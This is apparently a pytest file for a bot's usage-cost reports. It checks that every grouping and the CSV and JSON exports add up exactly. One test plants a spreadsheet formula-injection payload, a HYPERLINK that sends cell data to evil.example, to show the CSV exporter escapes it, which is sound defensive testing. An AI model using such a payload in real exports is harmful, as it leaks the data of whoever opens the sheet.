"""Spend reports add up, to the digit, to what the dialogues themselves say they spent: every
grouping, with forks carrying copies of their parent's turns and summaries, and a call a crash cut
off charged at its reservation."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.models import DRY_RUN, Lineage, LineageKind, Note, NoteKind, Usage
from bot.store import Store
from bot.usage import GROUPINGS, UNSETTLED, as_csv, as_json, report, total
from tests.bot.test_store import a_turn
from tests.conftest import make_spec, run_all
from tests.fake_openrouter import Reply

pytestmark = pytest.mark.backends("sqlite", "postgres")

DAY = datetime(2026, 11, 20, 12, tzinfo=UTC)


async def spent_by_dialogues(store: Store) -> Decimal:
    rows = await store.fetchall(f"SELECT spent_usd FROM dialogues WHERE origin != '{DRY_RUN}'")
    return sum((Decimal(r[0]) for r in rows), Decimal(0))


async def a_history(store: Store, costs: list[str], summary: str, crash: str) -> None:
    """A parent with turns and a paid summary, a fork that copies them and adds a turn of its own,
    a dialogue on another day with a call a crash cut off, and a free dry run."""
    parent = await store.create_dialogue(make_spec(), DAY)
    for seq, cost in enumerate(costs):
        await store.add_turn(replace(a_turn(parent.id, seq, cost), model_used=f"m/{seq % 3}"))
    compaction = Note(
        parent.id,
        len(costs),
        NoteKind.COMPACTED,
        "what happened",
        DAY,
        first_kept_seq=1,
        model="m/summary",
        usage=Usage(10, 5),
        cost_usd=Decimal(summary),
    )
    note = await store.add_note(compaction)
    turns = await store.list_turns(parent.id)
    fork = replace(
        make_spec(),
        parent=Lineage(parent.id, LineageKind.FORK, len(turns)),
        inherited=tuple(turns),
        inherited_notes=(note,),
    )
    child = await store.create_dialogue(fork, DAY + timedelta(minutes=5))
    await store.add_turn(replace(a_turn(child.id, len(turns), "0.0001"), model_used="m/0"))
    later = await store.create_dialogue(make_spec(), DAY + timedelta(days=1))
    await store.begin_call(later.id, 0, Decimal(crash), DAY + timedelta(days=1))
    await store.settle_interrupted_calls(later.id)
    await store.create_dialogue(replace(make_spec(), origin=DRY_RUN), DAY)


async def test_every_grouping_adds_up_to_the_dialogues_spend(store):
    await a_history(store, ["0.0036", "0.00000007", "1.5"], summary="0.0123", crash="0.25")
    expected = await spent_by_dialogues(store)
    assert expected == Decimal("0.0036") + Decimal("0.00000007") + Decimal("1.5") + Decimal(
        "0.0123"
    ) + Decimal("0.0001") + Decimal("0.25")
    for by in GROUPINGS:
        rows = await report(store, by)
        assert total(rows) == expected, by
        document = json.loads(as_json(rows, by))
        assert Decimal(document["total_usd"]) == expected
        assert sum(Decimal(r["spent_usd"]) for r in document["rows"]) == expected
        lines = as_csv(rows, by).splitlines()
        assert lines[0] == f"{by},dialogues,prompt_tokens,completion_tokens,spent_usd"
        assert sum(Decimal(line.rsplit(",", 1)[1]) for line in lines[1:]) == expected
    by_model = {r.key: r for r in await report(store, "model")}
    # The fork's copies of the parent's turns and summary are not counted again.
    assert by_model["m/0"].spent_usd == Decimal("0.0037") and by_model["m/0"].dialogues == {1, 2}
    assert by_model["m/summary"].spent_usd == Decimal("0.0123")
    assert by_model[UNSETTLED].spent_usd == Decimal("0.25")
    by_day = {r.key: r.spent_usd for r in await report(store, "day")}
    assert by_day == {"2026-11-20": expected - Decimal("0.25"), "2026-11-21": Decimal("0.25")}
    since = await report(store, "member", since=DAY + timedelta(hours=13))
    assert total(since) == Decimal("0.25")


@settings(max_examples=25, deadline=None)
@given(
    costs=st.lists(st.decimals(min_value=0, max_value=5, places=9), min_size=1, max_size=6),
    summary=st.decimals(min_value=0, max_value=1, places=9),
    crash=st.decimals(min_value=0, max_value=1, places=9),
)
async def test_reports_stay_exact_for_any_amounts(tmp_path_factory, costs, summary, crash):
    async with Store.open(tmp_path_factory.mktemp("usage") / "voices.db") as store:
        await a_history(store, [str(c) for c in costs], str(summary), str(crash))
        expected = await spent_by_dialogues(store)
        for by in GROUPINGS:
            assert total(await report(store, by)) == expected


async def test_a_model_name_a_provider_wrote_as_a_formula_stays_text_in_the_csv(runner, store, server):
    """The provider names the model that answered; opened in a spreadsheet, a name that begins
    like a formula would run (=HYPERLINK sends the sheet's data away)."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    server.enqueue(Reply(text="hello", model=formula), Reply(text="back", model="@SUM(1+1)"))
    dialogue = await runner.create(make_spec(rounds=1))
    await run_all(runner, dialogue.id)
    lines = as_csv(await report(store, "model"), "model").splitlines()
    keys = [line.rsplit(",", 4)[0] for line in lines[1:]]
    assert sorted(keys) == sorted(['"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"', "'@SUM(1+1)"])
    assert not any(line.startswith(("=", "+", "-", "@")) for line in lines)
    document = json.loads(as_json(await report(store, "model"), "model"))
    assert formula in [r["model"] for r in document["rows"]]  # JSON is data, not a sheet: as written
